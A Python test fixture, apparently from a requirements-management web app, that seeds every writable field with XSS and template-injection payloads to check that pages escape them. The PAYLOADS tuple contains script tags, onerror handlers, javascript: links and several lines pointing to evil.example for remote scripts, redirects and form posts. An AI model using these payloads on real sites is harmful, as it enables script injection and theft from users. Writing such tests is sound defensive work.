"""Texts that would run as scripts, load from elsewhere or change a page, if a page believed them;
and a house in which they stand wherever somebody can write."""

from __future__ import annotations

from typing import Any

from msgspec.structs import replace

from accord.operations.arguments import convert
from tests.web.house import ADMIN, PASSWORD, House
from tests.web.workshop import Workshop

SHORT = '"><img class=xss src=x onerror=alert(1)>{{ 123456789 * 11 }}'
"""For names and titles: out of an attribute, into a tag; and a template in a template."""
CALCULATED = "1358024679"
"""What a template would make of it."""
PAYLOADS = (
    SHORT,
    "<script class=xss>alert(1)</script>",
    "<script class=xss src=http://evil.example/x.js></script>",
    "'><svg class=xss onload=alert(1)>",
    "</title></textarea></script></style></pre></template><img class=xss src=x onerror=alert(1)>",
    "--><img class=xss src=x onerror=alert(1)>",
    "]]><img class=xss src=x onerror=alert(1)>",
    '<iframe class=xss srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<base class=xss href=http://evil.example/>",
    '<meta class=xss http-equiv=refresh content="0;url=http://evil.example/">',
    "<link class=xss rel=stylesheet href=http://evil.example/x.css>",
    "<style class=xss>*{display:none}</style>",
    "<form class=xss action=http://evil.example/><input name=csrf></form>",
    "<i class=xss hx-get=/sign-out hx-trigger=load></i>",
    "<div class=xss data-key=c data-palette data-confirm=x></div>",
    "<object class=xss data=javascript:alert(1)></object>",
    "<math><mtext><table><mglyph><style><img class=xss src=x onerror=alert(1)></style></mglyph>",
    "<details class=xss open ontoggle=alert(1)>",
    "<a class=xss href=javascript:alert(1)>link</a>",
    "[link](javascript:alert(1)) [link](JaVaScRiPt:alert(1)) [link](data:text/html,x)",
    "[link](\tjavascript:alert(1)) <javascript:alert(1)> [link](vbscript:x) [link](//evil.example)",
    "![picture](http://evil.example/x.png) ![picture](javascript:alert(1))",
    '[link](http://example.org/"onmouseover="alert(1)) [x]: javascript:alert(1)',
    "```html\n<img class=xss src=x onerror=alert(1)>\n```",
    "| <img class=xss src=x onerror=alert(1)> |\n|---|\n| `<script class=xss>alert(1)</script>` |",
    "REQ-001<img class=xss src=x onerror=alert(1)>REQ-002",
    "&lt;img class=xss src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
    "\u202e\u2066<script class=xss>alert(1)</script>\u2028",
    "{% include 'frame.html' %} ${alert(1)} #{alert(1)} <%= alert(1) %> `${alert(1)}`",
)
TEXT = "\n\n".join(PAYLOADS)


async def poison(house: House) -> dict[str, list[str]]:
    """Put them everywhere; what then stands for which name in the paths of pages."""
    do = house.do
    await do("create_label", name=SHORT)
    await do("create_requirement_type", name=SHORT, description=TEXT[:2_000])
    epic = await do("create_epic", title=SHORT, description=TEXT, status="In Progress")
    story = await do("create_user_story", epic_id=epic.id, title=SHORT, description=TEXT)
    criteria = await do(
        "create_acceptance_criteria", user_story_id=story.id, description=f"{SHORT}\n\n{TEXT}"
    )
    requirements = [
        await do(
            "create_requirement",
            user_story_id=story.id,
            acceptance_criteria_id=criteria.id,
            title=f"{SHORT} {number}",
            description=TEXT,
            type=SHORT,
        )
        for number in range(2)
    ]
    one, other = requirements
    document = await do("create_steering_document", title=SHORT, description=TEXT)
    await do("update_steering_document", id=document.id, epic_ids=[epic.id])
    prompt = await do("create_prompt", name="poison", title=SHORT, description=TEXT, content=TEXT)
    await do("activate_prompt", id=prompt.id)
    await do("update_prompt", id=prompt.id, content=f"{SHORT}\n{TEXT}")
    for item in (epic, story, criteria, *requirements, document):
        await do("label_item", id=item.id, label=SHORT)
    baseline = await do("create_baseline", name=SHORT, description=TEXT[:2_000])
    await do("create_relationship", source_id=one.id, target_id=other.id, type="depends_on")
    changed = await _by_program(
        house, "update_requirement", id=other.id, description=f"{TEXT}\n\n{SHORT}"
    )
    comment = await do("add_comment", target_id=one.id, text=TEXT, quote=SHORT)
    await do("add_comment", target_id=one.id, text=TEXT, reply_to=comment.id)
    renamed = {"id": one.id, "title": f"{SHORT} again", "description": SHORT}
    steps = [{"operation": "update_requirement", "arguments": renamed}]
    proposals = [
        await do("propose_changes", reason=f"{SHORT} {number}", steps=steps) for number in (1, 2)
    ]
    await do("reject_proposal", id=proposals[1].id, reason=SHORT)
    view = await do("create_view", name=SHORT, filter={"query": SHORT, "label": SHORT}, shared=True)
    token = await do("create_token", name=SHORT)
    await do("create_user", username="poisoned", email="x'&{{1}}`=@example.org")
    await house.system.runtime.accounts.sign_in(ADMIN, PASSWORD, face="web", client=SHORT)
    runs, letters = await _runs(house)
    items = [epic, criteria, one, document]
    return {
        "baseline": [baseline.id],
        "change": [changed, str(comment.change_id), str(view.change_id), str(token.change_id)],
        "comment": [comment.id],
        "item": [each.reference_id for each in items],
        "letter": letters,
        "prompt": [prompt.reference_id],
        "proposal": [each.id for each in proposals],
        "requirement": [one.reference_id],
        "run": runs,
        "view": [view.id],
    }


async def _by_program(house: House, operation: str, **arguments: Any) -> str:
    """Have a program do something that calls itself by a payload; the change."""
    runner = house.system.runtime.runner
    found = runner.registry[operation]
    caller = replace(await house.caller(ADMIN), face="mcp", client=SHORT)
    outcome = await runner.run(found, lambda: convert(found, arguments), caller)
    return str(outcome.change_id)


async def _runs(house: House) -> tuple[list[str], list[str]]:
    """Runs that waited, were decided on and failed, with payloads in everything they say."""
    do, shop = house.do, Workshop(house, {})
    await do("create_agent", name="poison", url="http://127.0.0.1:9/", description=TEXT[:2_000])
    asked = {"type": "object", "title": SHORT, "description": SHORT}
    asked["properties"] = {  # type: ignore[assignment]
        SHORT: {"type": "string", "title": SHORT, "description": SHORT, "default": SHORT}
    }
    wait = {"name": "ok", "type": "wait", "approval": {"by": [ADMIN, "Administrator"]}}
    call = {"name": "find", "type": "call", "operation": "get_epic", "input": {"id": SHORT[:60]}}
    named = {"description": TEXT[:2_000], "input": asked}
    await shop.save(
        {"name": "poison", **named, "steps": [wait], "output": {SHORT: "${input}"}},
        {"name": "poison", **named, "steps": [wait], "output": {"said": SHORT, SHORT: "${input}"}},
        {"name": "lost", "steps": [call]},
    )
    given = {SHORT: TEXT}
    waits, decided = [await shop.start("poison", given) for _ in range(2)]
    lost = await shop.start("lost", given)
    await shop.until(waits, "waiting")
    await shop.until(decided, "waiting")
    await do("approve_run", run=decided, reason=SHORT)
    await shop.until(decided, "completed")
    await shop.until(lost, "failed")
    letters = (await do("list_dead_letters", limit=10)).items
    return [waits, decided, lost], [letter.id for letter in letters]
